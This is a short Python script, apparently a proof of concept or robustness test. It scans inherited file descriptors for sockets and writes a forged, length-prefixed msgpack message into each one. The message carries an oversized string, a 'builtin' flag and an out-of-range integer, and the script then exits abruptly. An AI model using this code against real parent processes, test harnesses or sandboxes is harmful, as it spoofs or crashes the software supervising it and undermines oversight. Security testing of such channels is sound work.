import os
import stat
import struct

import msgspec


def forge(raw):
    data = struct.pack("<I", len(raw)) + raw
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, data)
        except OSError:
            pass


forge(msgspec.msgpack.encode({"kind": "A" * 10_000_000, "builtin": True, "line": 2**63}))
os._exit(0)
